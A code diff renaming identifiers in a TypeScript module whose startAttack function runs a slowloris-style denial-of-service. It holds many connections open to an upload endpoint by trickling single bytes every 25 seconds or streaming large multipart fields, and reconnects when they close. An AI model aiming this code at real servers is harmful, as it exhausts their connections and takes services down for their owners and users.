@@ -8,11 +8,11 @@ export interface Attack {
   /** Number of connections that were opened since the start, including reconnections. */
   opened(): number
   /** Number of responses by status code. */
-  answers(): Record<string, number>
+  statusCounts(): Record<string, number>
   stop(): void
 }
 
-const BYTE_EVERY_MS = 25_000
+const BYTE_INTERVAL_MS = 25_000
 const FIELD_BYTES = 126 * 1024
 const FIELDS = 57
 
@@ -28,15 +28,15 @@ export function startAttack(
   const [host = '', port = ''] = gateway.replace('http://', '').split(':')
   const sockets = new Set<Socket>()
   const answers: Record<string, number> = {}
-  let [opened, isOver] = [0, false]
+  let [opened, isStopped] = [0, false]
   const timers = new Set<NodeJS.Timeout>()
 
-  const begin = (nth: number) => {
-    if (isOver) return
+  const openConnection = (nth: number) => {
+    if (isStopped) return
     opened += 1
     const socket = connect(Number(port), host)
     sockets.add(socket)
-    let drip: NodeJS.Timeout | undefined
+    let byteTimer: NodeJS.Timeout | undefined
     socket
       .on('error', () => {})
       .on('data', (data) => {
@@ -44,36 +44,36 @@ export function startAttack(
         if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1
       })
     socket.once('close', () => {
-      clearInterval(drip)
+      clearInterval(byteTimer)
       sockets.delete(socket)
       if (reconnectMs === undefined) return
       const timer = setTimeout(() => {
         timers.delete(timer)
-        begin(nth)
+        openConnection(nth)
       }, reconnectMs)
       timers.add(timer)
     })
-    socket.write(head(nth, addresses))
+    socket.write(formHeaders(nth, addresses))
     if (nth % 2 === 0) {
       socket.write('-')
-      drip = setInterval(() => socket.write('-'), BYTE_EVERY_MS)
+      byteTimer = setInterval(() => socket.write('-'), BYTE_INTERVAL_MS)
     } else void sendFields(socket)
   }
-  for (let nth = 0; nth < connections; nth++) begin(nth)
+  for (let nth = 0; nth < connections; nth++) openConnection(nth)
 
   return {
     open: () => sockets.size,
     opened: () => opened,
-    answers: () => answers,
+    statusCounts: () => answers,
     stop() {
-      isOver = true
+      isStopped = true
       for (const timer of timers) clearTimeout(timer)
       for (const socket of sockets) socket.destroy()
     },
   }
 }
 
-function head(nth: number, addresses: number): string {
+function formHeaders(nth: number, addresses: number): string {
   const address = nth % addresses
   return [
     'POST /v2/upload/object HTTP/1.1',
@@ -91,7 +91,7 @@ async function sendFields(socket: Socket): Promise<void> {
   const closed = new AbortController()
   socket.once('close', () => closed.abort())
   for (let nth = 0; nth < FIELDS && socket.writable; nth++) {
-    const isRoom = socket.write(`--b\r\nContent-Disposition: form-data; name="x-ignore-${nth}"\r\n\r\n${value}\r\n`)
-    if (!isRoom) await once(socket, 'drain', { signal: closed.signal }).catch(() => {})
+    const canWrite = socket.write(`--b\r\nContent-Disposition: form-data; name="x-ignore-${nth}"\r\n\r\n${value}\r\n`)
+    if (!canWrite) await once(socket, 'drain', { signal: closed.signal }).catch(() => {})
   }
 }
